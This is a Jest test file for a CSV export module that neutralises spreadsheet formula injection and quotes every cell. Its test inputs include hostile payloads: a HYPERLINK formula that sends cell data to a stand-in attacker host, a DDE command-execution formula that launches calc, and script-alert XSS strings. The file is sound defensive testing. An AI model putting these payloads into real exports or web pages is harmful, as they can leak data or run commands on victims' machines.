import { CSV_BOM, csvCell, csvRow, neutraliseCell } from "../../src/api/security/csv"

describe("CSV formula-injection neutralisation (OWASP CSV Injection, ASVS 1.2.10)", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ["+1+1", "'+1+1"],
    ["-1+1", "'-1+1"],
    ["-A1", "'-A1"],
    ["- 5", "'- 5"],
    ["-", "'-"],
    ["@SUM(1,1)", "'@SUM(1,1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["\n=1+1", "'\n=1+1"],
    ["＝1+1", "'＝1+1"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])("prefixes %j with a single quote", (input, expected) => {
    expect(neutraliseCell(input)).toBe(expected)
  })

  it.each([
    ["Zoë", "Zoë"],
    ["a=1", "a=1"],
    ["1+1", "1+1"],
    [" =1+1", " =1+1"],
    ["'=already quoted", "'=already quoted"],
    ["<script>alert(1)</script>", "<script>alert(1)</script>"],
    ["", ""],
  ])("leaves %j as it is", (input, expected) => {
    expect(neutraliseCell(input)).toBe(expected)
  })

  it("keeps negative amounts numeric: numbers, bigints and decimal strings are never prefixed", () => {
    expect(neutraliseCell(-123)).toBe("-123")
    expect(neutraliseCell(-9007199254740993n)).toBe("-9007199254740993")
    expect(neutraliseCell("-123")).toBe("-123")
    expect(neutraliseCell("-0.5")).toBe("-0.5")
    expect(neutraliseCell(0)).toBe("0")
    expect(csvCell(-123)).toBe('"-123"')
    expect(csvCell("-123")).toBe('"-123"')
    expect(() => neutraliseCell(Number.NaN)).toThrow("CSV cell NaN is not a finite number")
    expect(() => neutraliseCell(Number.POSITIVE_INFINITY)).toThrow("CSV cell Infinity is not a finite number")
  })

  it("quotes every cell and doubles inner quotes, so no value can add a cell or a row", () => {
    expect(csvCell('"><img src=x onerror=alert(1)>')).toBe('"""><img src=x onerror=alert(1)>"')
    expect(csvCell('a","=1+1')).toBe('"a"",""=1+1"')
    expect(csvCell("line\r\nbreak")).toBe('"line\r\nbreak"')
    expect(csvCell(null)).toBe('""')
    expect(csvCell(undefined)).toBe('""')
    expect(csvCell(true)).toBe('"true"')
    expect(csvCell(new Date("2026-11-21T10:00:00.123Z"))).toBe('"2026-11-21T10:00:00.123Z"')
  })

  it("writes CRLF-terminated records with every cell quoted and neutralised", () => {
    expect(csvRow(["mlmdist_1", "=1+1", -250, null, 'say "hi"'])).toBe('"mlmdist_1","\'=1+1","-250","","say ""hi"""\r\n')
    expect(CSV_BOM).toBe("\uFEFF")
  })
})
